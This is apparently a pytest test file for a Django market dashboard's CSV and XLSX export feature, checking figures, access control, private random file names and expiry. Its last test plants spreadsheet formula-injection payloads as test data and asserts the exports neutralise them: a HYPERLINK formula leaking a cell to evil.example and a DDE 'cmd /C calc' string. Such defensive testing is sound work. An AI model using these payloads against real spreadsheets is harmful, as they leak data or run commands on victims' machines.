import csv
import importlib
import io
import random
from datetime import timedelta
from pathlib import Path

import pytest
from django.apps import apps as django_apps
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.storage import FileSystemStorage
from django.urls import re_path
from django.utils import timezone
from django.views.static import serve
from openpyxl import load_workbook

from pasar.accounts.models import OfficerAssignment, User
from pasar.catalog.models import Commodity
from pasar.core.errors import DomainError
from pasar.core.spreadsheet import is_formula
from pasar.dashboards import selectors
from pasar.dashboards.aggregation import aggregate_day
from pasar.dashboards.exports import PROGRESS_EVERY, Table, export_build, export_request, exports_expire, write_csv
from pasar.dashboards.models import Export
from pasar.dashboards.periods import preset
from pasar.dashboards.tests import builders
from pasar.markets.models import Market, MarketRole
from pasar.testing import factories
from pasar.traders.models import Stall, Trader


@pytest.fixture
def sales(db, media_root):
    rng = random.Random(11)
    world = builders.world(rng, markets=2, stalls=2)
    today = timezone.localdate()
    days = builders.day_list(today - timedelta(days=3), 4)
    builders.orders(rng, world, days=days, n=30)
    for day in days:
        aggregate_day(day)
    operator = factories.user(name="Operator")
    MarketRole.objects.create(user=operator, market=world.markets[0], role=MarketRole.Role.OPERATOR)
    return world, operator


def content(export):
    with export.file.open("rb") as handle:
        return handle.read()


def built(export):
    export_build(export.pk)
    export.refresh_from_db()
    return export


def test_csv_matches_the_page_figures(sales, client):
    world, operator = sales
    market = world.markets[0]
    period = preset("7", timezone.localdate())
    export = built(export_request(user=operator, kind="stalls", file_format="csv", period=period, market=market))

    assert export.state == Export.State.DONE
    assert export.progress == 100
    rows = list(csv.reader(io.StringIO(content(export).decode("utf-8-sig"))))
    expected = selectors.per_stall(market, period)
    assert [r[0] for r in rows[1:]] == [r["name"] for r in expected]
    assert [int(r[4]) for r in rows[1:]] == [r["turnover"] for r in expected]
    client.force_login(operator)
    page = client.get(f"/pengelola/{market.slug}/dasbor/?periode=7").content.decode()
    for row in expected:
        assert factories_rupiah(row["turnover"]) in page


def factories_rupiah(amount):
    from pasar.core.money import format_rupiah

    return format_rupiah(amount)


def test_xlsx_per_day_matches_the_trend(sales):
    world, operator = sales
    period = preset("7", timezone.localdate())
    markets = Market.objects.filter(pk=world.markets[0].pk)
    export = built(
        export_request(user=operator, kind="days", file_format="xlsx", period=period, market=world.markets[0])
    )

    sheet = load_workbook(io.BytesIO(content(export))).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    trend = selectors.trend(selectors.Scope(markets), period)
    assert len(values) == len(trend) + 1
    assert [v[4] for v in values[1:]] == [t["turnover"] for t in trend]  # "None" days stay empty, not zero


def test_operator_exporting_another_market_is_refused(sales):
    world, operator = sales
    period = preset("7", timezone.localdate())
    with pytest.raises(DomainError):
        export_request(user=operator, kind="markets", file_format="csv", period=period, market=world.markets[1])
    assert not Export.objects.exists()


def test_operator_cannot_export_a_region(sales):
    world, operator = sales
    period = preset("7", timezone.localdate())
    with pytest.raises(DomainError):
        export_request(user=operator, kind="markets", file_format="csv", period=period, region=world.markets[0].region)


def test_only_the_requester_downloads(sales, client):
    world, operator = sales
    period = preset("7", timezone.localdate())
    export = built(
        export_request(user=operator, kind="markets", file_format="csv", period=period, market=world.markets[0])
    )
    other = factories.user(name="Operator kedua")
    MarketRole.objects.create(user=other, market=world.markets[0], role=MarketRole.Role.OPERATOR)

    client.force_login(other)
    assert client.get(f"/ekspor/{export.pk}/").status_code == 404
    assert client.get(f"/ekspor/{export.pk}/unduh/").status_code == 404
    client.force_login(operator)
    response = client.get(f"/ekspor/{export.pk}/unduh/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")


def test_page_shows_progress_then_the_download(sales, client):
    world, operator = sales
    period = preset("7", timezone.localdate())
    export = export_request(user=operator, kind="markets", file_format="csv", period=period, market=world.markets[0])
    client.force_login(operator)
    Export.objects.filter(pk=export.pk).update(state=Export.State.RUNNING, progress=40)

    page = client.get(f"/ekspor/{export.pk}/").content.decode()
    assert 'value="40"' in page
    assert "hx-trigger" in page
    assert f"/ekspor/{export.pk}/unduh/" not in page
    assert client.get(f"/ekspor/{export.pk}/unduh/").status_code == 404

    built(export)
    partial = client.get(f"/ekspor/{export.pk}/", headers={"HX-Request": "true"}).content.decode()
    assert f"/ekspor/{export.pk}/unduh/" in partial
    assert "<html" not in partial


def test_progress_is_saved_while_writing():
    seen = []
    rows = [[i] for i in range(PROGRESS_EVERY * 2 + 1)]
    write_csv(Table(["n"], rows), lambda done, total: seen.append((done, total)))
    assert seen == [(PROGRESS_EVERY, len(rows)), (PROGRESS_EVERY * 2, len(rows))]


def test_export_form_post_queues_and_redirects(sales, client):
    world, operator = sales
    client.force_login(operator)
    response = client.post(
        "/ekspor/", {"market": world.markets[0].slug, "kind": "commodities", "format": "xlsx", "periode": "30"}
    )
    export = Export.objects.get()
    assert response["Location"] == f"/ekspor/{export.pk}/"
    assert export.requested_by == operator
    response = client.post("/ekspor/", {"market": world.markets[1].slug, "kind": "markets", "format": "csv"})
    assert response.status_code == 404
    assert Export.objects.count() == 1


def test_exports_older_than_a_week_are_deleted_with_their_files(sales, django_capture_on_commit_callbacks):
    world, operator = sales
    period = preset("7", timezone.localdate())

    def made():
        return built(
            export_request(user=operator, kind="days", file_format="csv", period=period, market=world.markets[0])
        )

    old, fresh = made(), made()
    Export.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=8))
    storage = old.file.storage
    assert storage.exists(old.file.name)

    with django_capture_on_commit_callbacks(execute=True):
        assert exports_expire() == 1

    assert list(Export.objects.values_list("pk", flat=True)) == [fresh.pk]
    assert not storage.exists(old.file.name)
    assert storage.exists(fresh.file.name)


# Served like production's web server serves the media folder (the demo's PASAR_SERVE_MEDIA route).
urlpatterns = [
    *__import__("pasar.urls", fromlist=["urlpatterns"]).urlpatterns,
    re_path(
        r"^media/(?P<path>.*)$", lambda request, path: serve(request, path, document_root=str(settings.MEDIA_ROOT))
    ),
]


@pytest.mark.urls(__name__)
def test_export_files_are_private_random_and_only_downloaded_by_the_requester(sales, client, settings):
    world, operator = sales
    period = preset("7", timezone.localdate())
    export = built(
        export_request(user=operator, kind="trained", file_format="csv", period=period, market=world.markets[0])
    )
    path = Path(export.file.path)
    assert path.is_relative_to(Path(settings.PASAR_PRIVATE_ROOT))
    assert not path.is_relative_to(Path(settings.MEDIA_ROOT))
    assert "trained" not in export.file.name
    assert str(period.start) not in export.file.name
    assert len(Path(export.file.name).stem) >= 22  # 128 random bits
    with pytest.raises(ValueError, match="no URL"):
        export.file.url  # noqa: B018
    photo = FileSystemStorage().save("products/2026/12/photo.webp", ContentFile(b"webp"))
    served = client.get(f"/media/{photo}")
    assert served.status_code == 200  # the media route does serve the media folder
    assert b"".join(served.streaming_content) == b"webp"

    # The URLs an attacker would try: the old predictable name and the real one under /media/.
    old_name = f"exports/{timezone.localdate():%Y/%m}/pasar-trained-{period.start}-{period.end}.csv"
    for name in (old_name, export.file.name):
        assert client.get(f"/media/{name}").status_code == 404
    assert client.get(f"/ekspor/{export.pk}/unduh/").status_code == 302  # to the login page, no file

    officer = factories.user(name="Petugas")
    OfficerAssignment.objects.create(user=officer, region=world.markets[0].region)
    for someone in (officer, factories.user(name="Pembeli")):
        client.force_login(someone)
        assert client.get(f"/ekspor/{export.pk}/unduh/").status_code == 404

    client.force_login(operator)
    response = client.get(f"/ekspor/{export.pk}/unduh/")
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="pasar-trained-{period.start}-{period.end}.csv"'


def test_migration_moves_public_export_files_to_private_storage(sales, settings):
    world, operator = sales
    period = preset("7", timezone.localdate())
    export = built(
        export_request(user=operator, kind="days", file_format="csv", period=period, market=world.markets[0])
    )
    public = FileSystemStorage()
    old_name = public.save("exports/2026/11/pasar-days-2026-11-01-2026-11-07.csv", ContentFile(b"a,b\n"))
    Export.objects.filter(pk=export.pk).update(file=old_name)
    migration = importlib.import_module("pasar.dashboards.migrations.0003_export_private_storage")

    migration.move_public_exports(django_apps, None)

    export.refresh_from_db()
    assert not public.exists(old_name)
    assert export.file.name.startswith("exports/")
    assert "pasar-days" not in export.file.name
    assert content(export) == b"a,b\n"


EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'


def _cells(export):
    data = content(export)
    if export.format == Export.Format.CSV:
        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row], []
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    return [c.value for c in cells if isinstance(c.value, str)], [c.coordinate for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_every_export_writes_formula_like_text_inert(sales, file_format):
    world, operator = sales
    market = world.markets[0]
    # Text from people and imports that a spreadsheet would run: in every text column of every export.
    market.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    market.save(update_fields=["name"])
    User.objects.filter(pk=world.stalls[0].trader.user_id).update(name=EVIL)
    Stall.objects.filter(pk=world.stalls[0].pk).update(name="+1+1")
    Commodity.objects.filter(pk=Commodity.objects.order_by("pk").values("pk")[:1]).update(name="-2+3")
    trained = factories.trader(name="=1+1")
    Trader.objects.filter(pk=trained.pk).update(status=Trader.Status.TRAINED)
    factories.stall(market=market, trader_obj=trained)
    period = preset("7", timezone.localdate())

    seen: set[str] = set()
    for kind in Export.Kind.values:
        export = built(export_request(user=operator, kind=kind, file_format=file_format, period=period, market=market))
        texts, formulas = _cells(export)
        assert formulas == []
        assert [t for t in texts if is_formula(t)] == []
        seen |= {t for t in texts if t.startswith("'")}
    assert seen >= {"'@SUM(1+1)*cmd|' /C calc'!A0", "'" + EVIL, "'+1+1", "'-2+3", "'=1+1"}
